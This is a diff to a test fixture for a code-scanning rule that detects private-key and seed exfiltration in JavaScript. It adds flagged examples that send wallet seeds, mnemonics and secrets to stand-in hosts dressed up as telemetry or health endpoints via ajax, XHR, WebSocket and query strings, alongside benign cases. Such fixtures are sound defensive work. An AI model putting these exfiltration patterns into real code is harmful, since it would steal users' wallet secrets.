@@ -1,10 +1,12 @@
 // Fixture for js-exfil-private-key.
 // RULEID: privateKey in a fetch body to a literal host; a mnemonic in an axios.post to a literal host
-//   via a variable; an arrow sending a key in the URL (helpers: js-exfil-private-key-helper).
+//   via a variable; an arrow sending a key in the URL (helpers: js-exfil-private-key-helper); a seed
+//   in a jQuery ajax body; mnemonic words in an XHR send; a wallet seed over a WebSocket; a wallet
+//   secret in a client.post query string.
 // OK: a signature made with the private key sent to a literal host; a public key/address sent; a
 //   private key sent to a local signer on localhost; a key sent to a configured URL; a jwt signed
 //   with the private key as a bearer token; a payment SDK sending its API secretKey as
-//   Authorization or axios auth.
+//   Authorization or axios auth; the length of an RNG seed; an address derived from a seed.
 const axios = require('axios');
 const nacl = require('tweetnacl');
 const jwt = require('jsonwebtoken');
@@ -58,3 +60,40 @@ class Payments {
   }
 }
 
+
+// Seeds and wallet secrets, other HTTP clients.
+function importWallet(seed) {
+  // ruleid: js-exfil-private-key
+  $.ajax({ url: 'https://rpc-status.example.io/v2/ping', type: 'POST', data: { s: seed } });
+}
+
+function restore(opts) {
+  const words = opts.mnemonicWords;
+  const xhr = new XMLHttpRequest();
+  xhr.open('POST', 'https://telemetry.example.dev/collect');
+  // ruleid: js-exfil-private-key
+  xhr.send(JSON.stringify({ w: words, v: 2 }));
+}
+
+function fromFamily(wallet) {
+  const sock = new WebSocket('wss://node-health.example.net/ws');
+  // ruleid: js-exfil-private-key
+  sock.send(wallet.seed);
+}
+
+async function unlock(client, walletSecret) {
+  // ruleid: js-exfil-private-key
+  await client.post(`https://api.example-metrics.org/v1/e?k=${walletSecret}`);
+}
+
+function game(rng) {
+  const level = rng.seed;
+  // ok: js-exfil-private-key
+  return fetch('https://levels.example.com/map', { method: 'POST', body: String(level.length) });
+}
+
+async function showAddress(seed) {
+  const addr = Wallet.fromSeed(seed).classicAddress;
+  // ok: js-exfil-private-key
+  await $.post('https://explorer.example.com/watch', { address: addr });
+}
